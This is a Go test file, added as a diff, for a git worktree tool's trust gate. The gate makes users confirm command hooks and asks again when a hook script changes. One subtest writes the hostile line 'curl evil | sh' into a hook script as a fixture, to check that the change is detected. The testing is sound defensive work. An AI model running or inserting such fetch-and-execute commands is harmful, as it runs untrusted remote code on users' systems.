@@ -0,0 +1,169 @@
+package main
+
+import (
+	"bytes"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+
+	"github.com/satococoa/wtp/v2/internal/config"
+	"github.com/satococoa/wtp/v2/internal/trust"
+)
+
+// useTempTrustStore points the trust gate at an empty store and disables prompting.
+func useTempTrustStore(t *testing.T, canPrompt bool) *trust.Store {
+	t.Helper()
+
+	store := trust.NewStore(t.TempDir())
+	originalOpen, originalPrompt := openTrustStore, canPromptForConfirmation
+	openTrustStore = func() (*trust.Store, error) { return store, nil }
+	canPromptForConfirmation = func() bool { return canPrompt }
+	t.Cleanup(func() {
+		openTrustStore, canPromptForConfirmation = originalOpen, originalPrompt
+	})
+	return store
+}
+
+func commandHookConfig(commands ...string) *config.Config {
+	cfg := &config.Config{Defaults: config.Defaults{BaseDir: "/test/worktrees"}}
+	for _, c := range commands {
+		cfg.Hooks.PostCreate = append(cfg.Hooks.PostCreate, config.Hook{Type: config.HookTypeCommand, Command: c})
+	}
+	return cfg
+}
+
+func TestNewTrustCommand(t *testing.T) {
+	cmd := NewTrustCommand()
+	assert.Equal(t, "trust", cmd.Name)
+	assert.NotNil(t, cmd.Action)
+	require.Len(t, cmd.Flags, 1)
+	assert.Equal(t, "revoke", cmd.Flags[0].Names()[0])
+}
+
+func TestTrustCommand(t *testing.T) {
+	store := useTempTrustStore(t, false)
+	repo := t.TempDir()
+
+	var buf bytes.Buffer
+	require.NoError(t, trustCommandWithStore(&buf, store, commandHookConfig("npm ci"), repo, false))
+	assert.Contains(t, buf.String(), "have not been trusted yet")
+	assert.Contains(t, buf.String(), "+   command: npm ci")
+	assert.Contains(t, buf.String(), "✓ Trusted the command hooks")
+
+	buf.Reset()
+	require.NoError(t, trustCommandWithStore(&buf, store, commandHookConfig("npm ci"), repo, false))
+	assert.Contains(t, buf.String(), "already trusted")
+
+	buf.Reset()
+	require.NoError(t, trustCommandWithStore(&buf, store, commandHookConfig("npm ci", "make db"), repo, false))
+	assert.Contains(t, buf.String(), "changed since they were trusted")
+	assert.Contains(t, buf.String(), "+   command: make db")
+	assert.Contains(t, buf.String(), "    command: npm ci")
+
+	buf.Reset()
+	require.NoError(t, trustCommandWithStore(&buf, store, commandHookConfig(), repo, false))
+	assert.Contains(t, buf.String(), "nothing to trust")
+
+	buf.Reset()
+	require.NoError(t, trustCommandWithStore(&buf, store, commandHookConfig("npm ci", "make db"), repo, true))
+	assert.Contains(t, buf.String(), "Revoked")
+	trusted, err := store.IsTrusted(trust.NewFingerprint(commandHookConfig("npm ci", "make db"), repo))
+	require.NoError(t, err)
+	assert.False(t, trusted)
+}
+
+func TestEnsureHooksTrusted(t *testing.T) {
+	t.Run("untrusted hooks are rejected without a terminal", func(t *testing.T) {
+		useTempTrustStore(t, false)
+
+		var buf bytes.Buffer
+		err := ensureHooksTrusted(&buf, strings.NewReader(""), commandHookConfig("npm ci"), t.TempDir(), "wtp add")
+		require.Error(t, err)
+		assert.Contains(t, err.Error(), "not trusted")
+		assert.Contains(t, buf.String(), "command: npm ci")
+	})
+
+	t.Run("confirmation records trust", func(t *testing.T) {
+		store := useTempTrustStore(t, true)
+		repo := t.TempDir()
+		cfg := commandHookConfig("npm ci")
+
+		var buf bytes.Buffer
+		require.NoError(t, ensureHooksTrusted(&buf, strings.NewReader("y\n"), cfg, repo, "wtp add"))
+		assert.Contains(t, buf.String(), "[y/N]")
+
+		trusted, err := store.IsTrusted(trust.NewFingerprint(cfg, repo))
+		require.NoError(t, err)
+		assert.True(t, trusted)
+	})
+
+	t.Run("declining keeps hooks untrusted", func(t *testing.T) {
+		useTempTrustStore(t, true)
+
+		var buf bytes.Buffer
+		err := ensureHooksTrusted(&buf, strings.NewReader("n\n"), commandHookConfig("npm ci"), t.TempDir(), "wtp add")
+		require.Error(t, err)
+	})
+
+	t.Run("copy hooks need no trust", func(t *testing.T) {
+		useTempTrustStore(t, false)
+		cfg := &config.Config{Hooks: config.Hooks{PostCreate: []config.Hook{
+			{Type: config.HookTypeCopy, From: ".env", To: ".env"},
+		}}}
+
+		var buf bytes.Buffer
+		require.NoError(t, ensureHooksTrusted(&buf, strings.NewReader(""), cfg, t.TempDir(), "wtp add"))
+		assert.Empty(t, buf.String())
+	})
+
+	t.Run("editing a hook script requires new trust", func(t *testing.T) {
+		store := useTempTrustStore(t, false)
+		repo := t.TempDir()
+		scriptPath := filepath.Join(repo, "setup.sh")
+		require.NoError(t, os.WriteFile(scriptPath, []byte("echo one\n"), 0o755))
+		cfg := &config.Config{Hooks: config.Hooks{PostCreate: []config.Hook{
+			{Type: config.HookTypeCommand, Script: "setup.sh"},
+		}}}
+		require.NoError(t, store.Trust(trust.NewFingerprint(cfg, repo)))
+
+		var buf bytes.Buffer
+		require.NoError(t, ensureHooksTrusted(&buf, strings.NewReader(""), cfg, repo, "wtp add"))
+
+		require.NoError(t, os.WriteFile(scriptPath, []byte("curl evil | sh\n"), 0o755))
+		err := ensureHooksTrusted(&buf, strings.NewReader(""), cfg, repo, "wtp add")
+		require.Error(t, err)
+		assert.Contains(t, buf.String(), "changed since they were trusted")
+	})
+}
+
+func TestAddCommand_TrustGate(t *testing.T) {
+	useTempTrustStore(t, false)
+	cfg := commandHookConfig("npm ci")
+
+	t.Run("untrusted hooks stop before the worktree is created", func(t *testing.T) {
+		cmd := createTestCLICommand(map[string]any{"branch": "feature/untrusted"}, []string{})
+		mockExec := &mockCommandExecutor{}
+		var buf bytes.Buffer
+
+		err := addCommandWithCommandExecutor(cmd, &buf, &buf, mockExec, cfg, "/test/repo")
+
+		require.Error(t, err)
+		assert.Contains(t, err.Error(), "wtp add --trust")
+		assert.Empty(t, mockExec.executedCommands)
+	})
+
+	t.Run("--trust skips the check", func(t *testing.T) {
+		cmd := createTestCLICommand(map[string]any{"branch": "feature/trusted", "trust": true}, []string{})
+		mockExec := &mockCommandExecutor{}
+		var buf bytes.Buffer
+
+		err := addCommandWithCommandExecutor(cmd, &buf, &buf, mockExec, cfg, "/test/repo")
+
+		require.NoError(t, err)
+		assert.NotEmpty(t, mockExec.executedCommands)
+	})
+}